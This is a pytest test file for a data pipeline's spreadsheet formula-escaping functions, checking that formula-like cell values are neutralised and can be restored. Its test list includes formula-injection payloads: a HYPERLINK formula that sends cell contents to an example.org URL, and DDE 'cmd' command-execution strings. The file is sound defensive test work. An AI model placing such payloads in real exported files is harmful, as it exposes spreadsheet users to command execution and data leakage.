import pandas as pd
import pytest

from fruits_pipeline.reporting.spreadsheets import escape_formulas, unescape_formulas

FORMULAS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\tx",
    " =1",
    "\u00a0=1",
    "'=1",
    "''=1",
    '"=1',
    "\ufeff=1",
    "\u200b=1",
    "\x00=1",
    "＝1",
    "＋1",
    "－1",
    "＠SUM",
    "﹦1",
    '=HYPERLINK("http://example.org?"&A1,"x")/a.jpg',
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0.jpg",
]
HARMLESS = ["", "Apple", "a=b.jpg", "'Apple", "07", "1-2.jpg", "Crème brûlée", "(=1)"]


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_becomes_text(text: str) -> None:
    escaped = escape_formulas(pd.DataFrame({"path": [text], "photos": [1]}))
    assert escaped["path"].tolist() == [f"'{text}"]
    assert escaped["photos"].tolist() == [1]


def test_other_text_numbers_and_missing_values_are_kept() -> None:
    table = pd.DataFrame({"path": [*HARMLESS, None], "photos": range(9)})
    pd.testing.assert_frame_equal(escape_formulas(table), table)


def test_original_text_is_restored() -> None:
    texts = [*FORMULAS, *HARMLESS]
    texts += [f"'{text}" for text in texts]
    table = pd.DataFrame({"path": texts})
    pd.testing.assert_frame_equal(unescape_formulas(escape_formulas(table)), table)


def test_empty_table_is_kept() -> None:
    table = pd.DataFrame({"path": pd.Series([], dtype=object)})
    pd.testing.assert_frame_equal(escape_formulas(table), table)
